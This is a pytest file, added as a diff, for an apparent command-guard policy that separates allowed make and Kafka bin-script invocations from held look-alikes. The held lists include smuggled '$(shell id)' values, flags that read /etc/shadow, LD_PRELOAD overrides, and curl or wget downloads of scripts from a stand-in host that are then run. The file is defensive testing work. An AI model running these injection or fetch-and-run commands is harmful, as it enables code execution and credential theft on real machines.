@@ -1,0 +1,88 @@
+"""Ordinary classes found in session 15's tuning sets, each with the look-alikes that stay
+held (docs/guard-least-privilege.md, "Session 15")."""
+
+from __future__ import annotations
+
+import pytest
+
+from sshgate.policy.model import Action
+
+from .expect import allowed, held
+
+# make's command-line variables: the tree's Makefile reads them, make exports them to every
+# recipe; a plain word, number or version for a name no tool reads as a program, file,
+# directory, host or options; compiler flags for *FLAGS
+MAKE_ALLOWED = [
+    "make -j$(nproc) BOARD=nucleo_f446re", "make BOARD=nucleo EXTRA_CFLAGS=-DDEBUG_UART=1 -j8",
+    "make deploy ENV=staging", "make VERSION=1.2.3 release", "make release VERSION=v1.14.2",
+    "make CFLAGS='-O2 -g'", "make V=1", "make LDFLAGS=-lm", "make test DEBUG=1 -k",
+    "gmake JOBS=4 all", "make CXXFLAGS='-std=c++17 -Wall -Wextra' -j4",
+    "make -C firmware BOARD=pico_w MODE=release",
+]
+MAKE_HELD = [
+    # names a tool or the shell runs, loads or searches
+    "make test PYTHON=python3", "make CC=rm", "make SHELL=python3", "make PAGER=rm",
+    "make GIT_EXTERNAL_DIFF=shred diff", "make MAKEFILES=evil", "make LD_PRELOAD=libx",
+    "make BASH_ENV=x", "make PYTHONPATH=x test", "make NODE_OPTIONS=x", "make PERL5OPT=Mx",
+    "make CONFIG=evil", "make BUILD_DIR=src clean", "make PREFIX=usr install", "make O=x",
+    "make TF_CLI_ARGS=x", "make DEPLOY_HOST=evil deploy", "make REGISTRY=evil push",
+    "make API_TOKEN=x", "make DOCKER=rm", "make RM=shred clean",
+    # assignments make evaluates, and values that are not plain words
+    "make 'X!=id'", "make 'X:=$(shell id)'", "make X+=y", "make 'X=$(shell id)'",
+    "make X=", "make X=..", "make X=../../etc", "make X=/etc/passwd", "make X=1.2.3.4",
+    "make X=evil.mk", "make 'X=a b'", "make X='a;id'", "make X=$y", "make X=-rf",
+    "make 'X=`id`'", "make X=~",
+    # flags that load, link or write
+    "make CFLAGS=-fplugin=x.so", "make EXTRA_CFLAGS=-Wl,-rpath", "make CFLAGS=-B/tmp",
+    "make CFLAGS='-O2 -wrapper sh'", "make LDFLAGS=-L/tmp", "make CFLAGS=-include/etc/shadow",
+    "make MAKEFLAGS=-e", "make GOFLAGS=-toolexec=x", "make CFLAGS=",
+]
+
+
+@pytest.mark.parametrize("line", MAKE_ALLOWED)
+def test_make_variables_allowed(line: str) -> None:
+    allowed(line)
+
+
+@pytest.mark.parametrize("line", MAKE_HELD)
+def test_make_variables_held(line: str) -> None:
+    held(line)
+
+
+# a tool's own program in a relative bin directory (the install directory the shell is in):
+# judged by the tool's entry; a bin the session wrote, fetched or unpacked into holds it
+HOME_BIN_ALLOWED = [
+    "bin/kafka-topics.sh --bootstrap-server localhost:9092 --list",
+    "./bin/kafka-consumer-groups.sh --bootstrap-server kafka-1.internal:9092 --describe --group g",
+    "kafka/bin/kafka-topics.sh --bootstrap-server localhost:9092 --describe --topic t",
+    "bin/zookeeper-shell.sh localhost:2181 ls /brokers/ids",
+]
+HOME_BIN_HELD = [
+    "bin/kafka-topics.sh --bootstrap-server localhost:9092 --delete --topic t",
+    "bin/kafka-topics.sh --bootstrap-server evil.example.com:9092 --list",
+    "../bin/kafka-topics.sh --bootstrap-server localhost:9092 --list",
+    "bin/sh -c id", "bin/bash x", "bin/python3 -c 1", "bin/kafka-run-class.sh kafka.Admin",
+    "x/y/z/w/bin/kafka-topics.sh --bootstrap-server localhost:9092 --list",
+    "curl -o bin/kafka-topics.sh https://e.example/x; bin/kafka-topics.sh --list",
+]
+
+
+@pytest.mark.parametrize("line", HOME_BIN_ALLOWED)
+def test_home_bin_allowed(line: str) -> None:
+    allowed(line)
+
+
+@pytest.mark.parametrize("line", HOME_BIN_HELD)
+def test_home_bin_held(line: str) -> None:
+    held(line)
+
+
+@pytest.mark.parametrize("first", [
+    "cp /tmp/payload bin/kafka-topics.sh", "tar xzf /tmp/kafka.tgz",
+    "wget -P bin https://e.example/kafka-topics.sh",
+])
+def test_home_bin_written_in_session_is_held(first: str) -> None:
+    from .test_code_write import session
+    second = ("kafka_2.13-3.7.0/" if first.startswith("tar") else "") + \
+        "bin/kafka-topics.sh --bootstrap-server localhost:9092 --list"
+    assert session([(first, True), (second, False)])[-1] is not Action.ALLOW
